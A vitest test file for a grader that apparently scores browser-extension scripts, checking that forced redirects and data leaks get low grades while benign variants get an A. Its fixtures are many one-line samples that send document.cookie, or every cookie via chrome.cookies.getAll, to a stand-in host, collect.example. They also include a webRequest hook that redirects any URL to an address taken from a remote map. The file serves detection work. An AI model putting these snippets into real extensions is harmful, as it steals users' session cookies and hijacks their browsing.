import { describe, expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Where a script leads a page by itself: `U` is the address. */

const LEADS: readonly (readonly [what: string, program: string])[] = [
  ['the global object', 'globalThis.location = U;'],
  ['a part of the window', 'const { location: l } = window; l.assign(U);'],
  ['the navigation', 'navigation.navigate(U);'],
  ['a link', "const a = document.createElement('a'); a.href = U; document.body.append(a); a.click();"],
  ['an attribute of a link', "const a = document.createElement('a'); a.setAttribute('href', U); a.click();"],
  ['a link of several properties', "const a = Object.assign(document.createElement('a'), { href: U }); a.click();"],
  [
    'a link in a field',
    "class Go { to(u) { this.a = document.createElement('a'); this.a.href = u; this.a.dispatchEvent(new MouseEvent('click')); } } new Go().to(U);",
  ],
  ['a form', "const f = document.createElement('form'); f.action = U; document.body.append(f); f.submit();"],
  [
    'an attribute of a form',
    "const f = document.createElement('form'); f.setAttribute('action', U); document.body.append(f); f.requestSubmit();",
  ],
  [
    'a button of a form',
    "const f = document.createElement('form'); const b = document.createElement('button'); b.formAction = U; f.append(b); document.body.append(f); b.click();",
  ],
  [
    'where the page goes on',
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + U; document.head.append(m);",
  ],
  [
    'an attribute of that',
    "const m = document.createElement('meta'); m.setAttribute('http-equiv', 'refresh'); m.setAttribute('content', `0; url=${U}`); document.head.append(m);",
  ],
  ['the base of all addresses', "const b = document.createElement('base'); b.href = U; document.head.append(b);"],
];

const ordered = (program: string): string =>
  `fetch('https://cfg.maker.example/go').then((r) => r.json()).then((R) => { ${program} });`;

describe('a page is led by', () => {
  it.each(LEADS)('%s', async (_, program) => {
    expect(await graded({ content: ordered(`const U = R.url; ${program}`) })).toMatch(/^[DF]$/);
    // The host is the author's.
    const own = "const U = 'https://maker.example/p?i=' + encodeURIComponent(R.id);";
    expect(await graded({ content: ordered(`${own} ${program}`) })).toMatch(/^A/);
  });
  it.each(LEADS)('%s, which takes data along', async (_, program) => {
    const taking = (data: string): string => `const U = 'https://collect.example/?a=' + ${data}; ${program}`;
    expect(await graded({ content: taking('document.cookie') })).toMatch(/^[CDF]$/);
    expect(await graded({ content: taking('version') })).toMatch(/^A/);
  });
  it('a link of the page, wherever that is led by the author', async () => {
    const program = "const a = document.querySelector('a'); a.href = U; a.click();";
    expect(await graded({ content: ordered(`const U = R.url; ${program}`) })).toMatch(/^[DF]$/);
    for (const data of ['document.cookie', 'version'])
      expect(await graded({ content: `const U = 'https://collect.example/?a=' + ${data}; ${program}` })).toMatch(
        /^[DF]$/,
      );
  });
  it('nothing that the base of a page of its own is given, but for data that goes along', async () => {
    const popup = (program: string): string =>
      ordered(`const U = R.url; document.querySelector('base').href = ${program};`);
    expect(await graded({ popup: popup('U') })).toMatch(/^A/);
    const taking =
      "chrome.cookies.getAll({}, (all) => { document.querySelector('base').href = 'https://collect.example/' + JSON.stringify(all); });";
    expect(
      await graded({ popup: taking, manifest: { permissions: ['cookies'], host_permissions: ['<all_urls>'] } }),
    ).toMatch(/^[CDF]$/);
  });
  it('another host behind a slash', async () => {
    expect(await graded({ content: ordered("location.href = '/' + R.path;") })).toMatch(/^[DF]$/);
    expect(await graded({ content: ordered("location.href = '/go/' + R.path;") })).toMatch(/^A/);
  });
});

describe('what a server answers leads', () => {
  it.each([
    [
      'a page whose host it names beside',
      'for (const r of R.rules) if (location.host === r.host) location.href = r.url;',
      "for (const r of R.rules) { const u = new URL(r.url); if (u.host === 'maker.example') location.href = u.href; }",
    ],
    [
      'a page by another address than the one that was looked at',
      "if (new URL(R.url).hostname === 'maker.example') location.href = R.to;",
      "if (new URL(R.url).hostname === 'maker.example') location.href = R.url;",
    ],
    [
      'a page to another host in its own address',
      'location.href = location.href.replace(location.host, R.host);',
      "location.href = location.href.replace('www.', '');",
    ],
    [
      'a page to its own address with a parameter',
      'const u = new URL(location.href); u.searchParams.set(R.name, R.value); location.replace(u);',
      'const u = new URL(location.href); u.searchParams.delete(R.name); location.replace(u);',
    ],
    [
      'the forms of a page',
      'document.querySelectorAll("form").forEach((f) => { f.action = R.url; });',
      'const f = document.createElement("form"); f.action = R.url; document.body.append(f);',
    ],
    [
      'the links of a page',
      'document.querySelectorAll("a[href]").forEach((a) => { a.href = R.url; });',
      'const a = document.createElement("a"); a.href = R.url; document.body.append(a);',
    ],
  ])('%s', async (_, led, own) => {
    expect(await graded({ content: ordered(led) })).toMatch(/^[CDF]$/);
    expect(await graded({ content: ordered(own) })).toMatch(/^A/);
  });
  it('no page to another of its own site', async () => {
    expect(await graded({ content: ordered("location.replace(location.origin + '/#page=' + R.page);") })).toMatch(/^A/);
  });
  it('a request, by its answer’s headers', async () => {
    const background = (to: string): string =>
      `let map = {}; chrome.alarms.onAlarm.addListener(async () => { map = await (await fetch('https://cfg.maker.example/m')).json(); }); chrome.webRequest.onHeadersReceived.addListener((d) => (map[d.url] ? { redirectUrl: ${to} } : {}), { urls: ['<all_urls>'] }, ['blocking']);`;
    expect(await graded({ background: background('map[d.url]') })).toMatch(/^[DF]$/);
    expect(await graded({ background: background("chrome.runtime.getURL('stopped.html')") })).toMatch(/^A/);
  });
});

it.each([
  ['that waits for the person', "const a = document.createElement('a'); a.href = R.url; document.body.append(a);"],
  [
    'that is kept as a file',
    "const a = document.createElement('a'); a.href = R.url; a.download = 'list.csv'; a.click();",
  ],
  ['that another is pressed beside', "const a = document.createElement('a'); a.href = R.url; other.click();"],
  ['of a colour', "const m = document.createElement('meta'); m.name = 'theme-color'; m.content = R.url;"],
])('a link %s leads nowhere', async (_, program) => {
  expect(await graded({ content: ordered(program) })).toMatch(/^A/);
});

const ASKS: readonly (readonly [what: string, program: string])[] = [
  ['a picture of the page', "document.getElementById('logo').src = TO + K;"],
  ['what a link tells when it is pressed', "document.querySelectorAll('a').forEach((a) => { a.ping = TO + K; });"],
  ['the ground of a page', 'document.body.background = TO + K;'],
  ['an element that was just put into the page', 'document.body.appendChild(new Image()).src = TO + K;'],
  ['a style of an element', 'document.body.style = `background: url(${TO}${K})`;'],
  ['a style in markup', 'document.body.innerHTML = `<p style="background: url(${TO}${K})">`;'],
  ['a page in markup that goes on', "document.write('<meta http-equiv=refresh content=\"0; url=' + TO + K + '\">');"],
  ['a script in markup', 'document.write(`<script>fetch("${TO}${K}")</script>`);'],
  [
    'a form in markup',
    'document.body.insertAdjacentHTML("beforeend", `<form id=f action="https://collect.example/"><input name=a value="${K}"></form>`); document.getElementById("f").submit();',
  ],
  [
    'the field of a form that is looked for',
    "const f = document.createElement('form'); f.action = 'https://collect.example/'; f.innerHTML = '<input name=a>'; f.querySelector('input').value = K; document.body.append(f); f.submit();",
  ],
  [
    'code in the page',
    'const s = document.createElement("script"); s.textContent = `new Image().src = "${TO}${K}"`; document.head.append(s);',
  ],
  ['code that runs later', 'setTimeout(`fetch("${TO}${K}")`, 10);'],
];

const TO = "const TO = 'https://collect.example/?a=';";

describe('a secret is asked for by', () => {
  it.each(ASKS)('%s', async (_, program) => {
    expect(await graded({ content: `${TO} const K = document.cookie; ${program}` })).toMatch(/^[CDF]$/);
    expect(await graded({ content: `${TO} const K = '1.0'; ${program}` })).toMatch(/^A/);
  });
});

it('markup that names an address beside what is put into it asks for nothing', async () => {
  const content = (href: string): string =>
    `document.body.innerHTML = '<img src="https://maker.example/a.png"><a href="${href}' + document.cookie + '">x</a>';`;
  expect(await graded({ content: content('https://maker.example/?a=') })).toMatch(/^A/);
});
